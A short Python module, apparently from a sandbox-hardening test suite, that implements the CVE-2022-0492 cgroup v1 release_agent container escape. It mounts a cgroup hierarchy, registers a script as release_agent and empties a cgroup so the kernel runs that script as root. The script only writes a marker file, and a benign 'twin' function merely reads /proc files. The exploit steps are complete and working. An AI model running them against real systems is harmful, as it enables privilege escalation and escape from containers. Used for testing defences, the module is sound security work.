"""Mounts a hierarchy of cgroup version 1 and has the kernel run a program in root's name when a cgroup of it is empty
(CVE-2022-0492)."""

import os
import stat

from kernel import in_child, mount, read, syscall, wait_for, write

CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x20000, 0x2000000, 0x10000000


def attack(folder):
    if os.getuid() != 0:
        # To have capabilities at all.
        syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)
    where, marker = f"{folder}/cgroups", f"{folder}/marker"
    os.makedirs(where, exist_ok=True)
    mount("none", where, "cgroup", 0, "none,name=attack-i11")
    try:
        write(f"{folder}/program", f"#!/bin/sh\necho $$ >{marker}\n")
        os.chmod(f"{folder}/program", stat.S_IRWXU)
        write(f"{where}/release_agent", f"{folder}/program")
        os.makedirs(f"{where}/one", exist_ok=True)
        write(f"{where}/one/notify_on_release", "1")
        in_child(write, f"{where}/one/cgroup.procs", "0")
        wait_for(lambda: os.path.exists(marker), "the program was not run")
        os.rmdir(f"{where}/one")
    finally:
        syscall("umount2", where, 2)


def twin(_folder):
    read("/proc/self/cgroup")
    read("/proc/self/mounts")
